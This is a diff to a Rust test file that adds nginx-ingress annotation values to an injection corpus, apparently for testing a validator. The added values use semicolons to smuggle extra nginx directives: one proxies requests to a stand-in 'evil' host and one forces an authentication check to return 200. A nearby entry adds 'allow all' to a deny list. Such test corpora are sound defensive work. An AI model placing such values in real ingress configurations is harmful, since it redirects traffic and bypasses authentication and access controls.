@@ -112,6 +112,14 @@ fn corpus() -> Vec<(Slot, String)> {
             "basic\n}xqN".into(),
         ),
         (
+            Annotation("nginx.ingress.kubernetes.io/auth-response-headers"),
+            "X-User; proxy_pass http://evil; #xqN".into(),
+        ),
+        (
+            Annotation("nginx.ingress.kubernetes.io/auth-method"),
+            "GET; return 200 xqN".into(),
+        ),
+        (
             Annotation("nginx.ingress.kubernetes.io/denylist-source-range"),
             "10.0.0.0/8; allow all; #xqN".into(),
         ),
